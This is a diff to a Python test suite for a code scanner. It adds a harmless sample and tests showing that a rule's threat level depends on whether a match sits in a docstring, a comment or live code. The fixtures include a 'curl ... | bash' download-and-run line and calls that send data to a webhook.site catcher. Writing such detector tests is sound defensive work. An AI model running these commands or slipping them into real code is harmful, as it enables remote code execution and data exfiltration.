@@ -136,6 +136,11 @@ HARMLESS: list[tuple[str, str, str | bytes]] = [
     ("its own module used", "a.js", "const Module = module.constructor; Module._load(id)"),
     ("a picture's end found", "a.py", "data = open('logo.png', 'rb').read()\nassert b'IEND' in data"),
     ("npm used", "a.js", "exec('npm publish')"),
+    (
+        "a picture's own eval",
+        "a.py",
+        "def eval(image, *rest):\n    return image\n\n\nImage.open('a.png').getpixel((0, 0))",
+    ),
     ("a picture opened", "a.py", "image = Image.open('logo.png')\nimage.getpixel((0, 0))"),
 ]
 
@@ -152,6 +157,36 @@ def test_a_rule_matches_what_it_is_for(rule: str, path: str, content: str | byte
 @pytest.mark.parametrize(("path", "content"), [row[1:] for row in HARMLESS], ids=[row[0] for row in HARMLESS])
 def test_what_is_harmless_matches_nothing(path: str, content: str | bytes) -> None:
     assert looked({path: content}) == []
+
+
+DOCSTRING = 'def f(x):\n    """Adds.\n\n    f("https://webhook.site/1")\n    """\n'
+UPDATE = "def update():\n    subprocess.run(['bash', '-c', 'curl -s https://x.test/a.sh | bash'])\n"
+
+
+@pytest.mark.parametrize(
+    ("code", "rule", "threat"),
+    [
+        (DOCSTRING, "catcher_of_requests", Threat.LOW),
+        ("# as https://webhook.site/1 shows\nf(1)", "catcher_of_requests", Threat.LOW),
+        (DOCSTRING + "    send(f.__doc__)\n", "catcher_of_requests", Threat.HIGH),
+        ("U = '''\nhttps://webhook.site/1\n'''", "catcher_of_requests", Threat.HIGH),
+        ("'''x\n'''; f('https://webhook.site/1')", "catcher_of_requests", Threat.HIGH),
+        ("f('https://webhook.site/1'", "catcher_of_requests", Threat.HIGH),  # does not parse
+        ("f('https://webhook.site/1'); 'x'", "catcher_of_requests", Threat.HIGH),
+        ("U = '''\n# https://webhook.site/1\n'''", "catcher_of_requests", Threat.HIGH),
+        (
+            "def f(x=run(\n'curl https://x.test/a.sh | bash'), y=exec(1)):\n    pass",
+            "download_and_run",
+            Threat.HIGH,
+        ),
+        (UPDATE, "download_and_run", Threat.MEDIUM),
+        (DOCSTRING + "send('https://webhook.site/2')\n", "catcher_of_requests", Threat.HIGH),
+        (UPDATE.split("\n")[1].strip(), "download_and_run", Threat.HIGH),
+    ],
+)
+def test_where_it_stands_counts(code: str, rule: str, threat: Threat) -> None:
+    (found,) = looked({"a.py": code})
+    assert (found.rule, found.threat) == (f"yara.{rule}", threat)
 
 
 def ours() -> list[tuple[str, dict[str, object]]]:
